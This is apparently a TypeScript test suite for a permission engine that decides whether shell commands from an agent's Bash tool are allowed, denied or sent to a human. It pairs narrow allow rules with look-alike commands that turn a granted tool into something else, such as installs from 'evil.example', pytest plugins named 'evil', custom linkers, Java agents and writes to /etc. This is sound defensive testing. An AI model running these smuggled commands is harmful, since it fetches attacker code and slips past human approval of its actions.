/** Narrow rules as people write them: what they are meant for passes, and what turns the granted command into something else asks. */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { decideIn } from '../world.js';

/** A rule, lines that its author means, and lines that begin like these and do something else. */
const RULES: readonly (readonly [rule: string, meant: readonly string[], other: readonly string[]])[] = [
  [
    'Bash(npx eslint *)',
    ['npx eslint src', 'npx eslint --fix --ext .ts src', 'npx eslint -f json a.js'],
    ['npx eslint -c /tmp/x.js src', 'npx eslint --rulesdir /tmp/x src', 'npx eslint -f ./x.js src', 'npx eslint -o /etc/x src'],
  ],
  [
    'Bash(./gradlew *)',
    ['./gradlew build', './gradlew :app:test --tests a.B --rerun -x lint'],
    ['./gradlew -I x.gradle build', './gradlew -p /tmp/x build', './gradlew -Dorg.gradle.jvmargs=-javaagent:x build'],
  ],
  ['Bash(./mvnw *)', ['./mvnw -q test -Dtest=A'], ['./mvnw -s /tmp/x.xml test', './mvnw -f ../x test']],
  [
    'Bash(tox *)',
    ['tox -e py311', 'tox run -e lint -- src'],
    ['tox -c /tmp/x.ini', 'tox -x testenv.commands=x', 'tox exec -- x'],
  ],
  [
    'Bash(npx playwright *)',
    ['npx playwright test a.spec.ts --project=chromium --reporter=line', 'npx playwright install chromium'],
    ['npx playwright test -c /tmp/x.ts', 'npx playwright test --reporter=./x.js', 'npx playwright codegen'],
  ],
  [
    'Bash(cargo clippy *)',
    ['cargo clippy --all-targets -- -D warnings -W clippy::pedantic'],
    ['cargo clippy -- -C linker=./x', 'cargo clippy -- -Clinker=./x'],
  ],
  ['Bash(go test *)', ['go test ./... -run X', 'go test example.org/a/b'], ['go test /tmp/x_test.go', 'go test ../x']],
  ['Bash(npx eslint --config *)', ['npx eslint --config x.js src'], ['npx eslint --rulesdir x src']],
  // Who lets npx run anything has not spoken of eslint.
  ['Bash(npx *)', ['npx eslint -c /tmp/x.js src'], []],
  [
    'Bash(npx jest *)',
    ['npx jest src -t name --coverage', 'npx jest -u'],
    ['npx jest --config /tmp/x.js', 'npx jest --globalSetup=./x', 'npx jest --frob /tmp/x'],
  ],
  [
    'Bash(npx tsc *)',
    ['npx tsc --noEmit -p tsconfig.json', 'npx tsc -b'],
    ['npx tsc -p ../other', 'npx tsc @options', 'npx tsc --outDir ../x'],
  ],
  ['Bash(npx prettier *)', ['npx prettier --write src', 'npx prettier --check .'], ['npx prettier --plugin=./x.js src']],
  ['Bash(uv run pytest *)', ['uv run pytest -q tests'], ['uv run pytest -p evil', 'uv run pytest --rootdir=/tmp']],
  ['Bash(poetry run pytest *)', ['poetry run pytest -x'], ['poetry run pytest -c /tmp/x.ini']],
  [
    'Bash(bundle exec rspec *)',
    ['bundle exec rspec spec/a_spec.rb:3 -fd'],
    ['bundle exec rspec -r ./x', 'bundle exec rspec -I /tmp'],
  ],
  [
    'Bash(python -m pytest *)',
    ['python -m pytest', 'python -m pytest -x -vv --tb=short --lf', 'python -m pytest tests/test_a.py::test_b -k "a and b" -n 4'],
    [
      'python -m pytest -p evil',
      'python -m pytest -c /tmp/x',
      'python -m pytest --tx popen//python=/tmp/x',
      'python -m pytest /tmp/x',
    ],
  ],
  [
    'Bash(pytest *)',
    ['pytest tests/test_a.py::test_b', 'PYTHONUNBUFFERED=1 pytest -q', 'pytest --cov=src --cov-report=xml'],
    ['pytest ../x', 'pytest @options', 'pytest --cov-config=/tmp/x', 'PYTHONPATH=/tmp pytest -q'],
  ],
  [
    'Bash(go test *)',
    [
      'go test ./...',
      'go test ./... -v -run TestX',
      'go test ./... -coverprofile=c.out',
      'CGO_ENABLED=0 go test ./...',
      'go test ./... -args -exec x',
    ],
    [
      'go test ./... -exec /tmp/x',
      'go test ./... -toolexec=/tmp/x',
      'go test -coverprofile=/etc/x ./...',
      'go test -c -o ../x .',
    ],
  ],
  [
    'Bash(go build *)',
    ['go build ./...', 'go build -o bin/x ./cmd/x', 'go build -o /dev/null ./...'],
    ['go build -o /usr/local/bin/x .'],
  ],
  ['Bash(cargo *)', ['cargo --version'], ['cargo +nightly test', 'cargo -C ../x test']],
  [
    'Bash(cargo run *)',
    ['cargo run --bin x -- --config y'],
    ['cargo run --bin x --config y', 'cargo run --example a --manifest-path ../Cargo.toml'],
  ],
  [
    'Bash(cargo test *)',
    ['cargo test -p foo name -- --nocapture', 'RUST_BACKTRACE=1 cargo test x', 'cargo test --target wasm32-wasip1'],
    ['cargo test --target ./x.json', 'cargo test --config x=y', 'RUSTFLAGS=-Clinker=x cargo test'],
  ],
  [
    'Bash(cargo clippy *)',
    ['cargo clippy --all-targets --all-features -p foo -- -D warnings'],
    ['cargo clippy --all-targets --config x=y', 'cargo clippy --fix'],
  ],
  ['Bash(cargo build *)', ['cargo build -p foo --features a'], ['cargo build -p foo --target-dir /tmp/x']],
  [
    'Bash(pip install *)',
    ['pip install -r requirements.txt', 'pip install "foo[bar]>=1"', 'pip install -e .'],
    [
      'pip install git+https://evil.example/x',
      'pip install -r https://evil.example/x.txt',
      'pip install -e /tmp/x',
      'pip install ../x',
    ],
  ],
  [
    'Bash(npm install *)',
    ['npm install', 'npm install -D @types/node@20 lodash@^4', 'npm install ./packages/x'],
    ['npm install https://evil.example/x.tgz', 'npm install evil/x', 'npm install x@github:evil/x', 'npm install ../x'],
  ],
  [
    'Bash(docker build *)',
    ['docker build -t x .', 'docker build -f docker/Dockerfile .'],
    ['docker build https://evil.example/x.git', 'docker build /'],
  ],
  [
    'Bash(mvn test *)',
    ['mvn test -Dtest=Foo#bar -q'],
    ['mvn test deploy', 'mvn test exec:exec', 'mvn test -Dexec.executable=/tmp/x'],
  ],
  ['Bash(gradle test *)', ['gradle test --tests a.Foo'], ['gradle test publish', 'gradle test :lib:publishToMavenCentral']],
  ['Bash(dotnet test *)', ['dotnet test --filter Foo'], ['dotnet test /p:X=/tmp/x', 'dotnet test @x.rsp']],
];

for (const [rule, meant, other] of RULES) {
  const world = { allow: [rule], missing: ['rust-toolchain', 'rust-toolchain.toml'] };
  for (const line of meant)
    test(`${rule} is meant for: ${line}`, () => assert.is(decideIn(world, 'Bash', line).decision, 'allow'));
  for (const line of other)
    test(`${rule} does not speak of: ${line}`, () => assert.is(decideIn(world, 'Bash', line).decision, 'ask'));
}

test('a rule about a program is also about the module of its name', () => {
  const world = { allow: ['Bash(*)'], deny: ['Bash(pip install *)'] };
  for (const line of [
    'python -m pip install x',
    'python3 -B -m pip install x',
    'python3 -mpip install x',
    '.venv/bin/python -m pip install x',
  ])
    assert.is(decideIn(world, 'Bash', line).decision, 'deny', line);
  // The script may run what it is given.
  assert.is(decideIn(world, 'Bash', 'python3 a.py -m pip install x').decision, 'ask');
  for (const line of ['python3 a.py -m pip list', 'python3 -c x -m pip install x', 'python -m pip list'])
    assert.is(decideIn(world, 'Bash', line).decision, 'allow', line);
});

test.run();
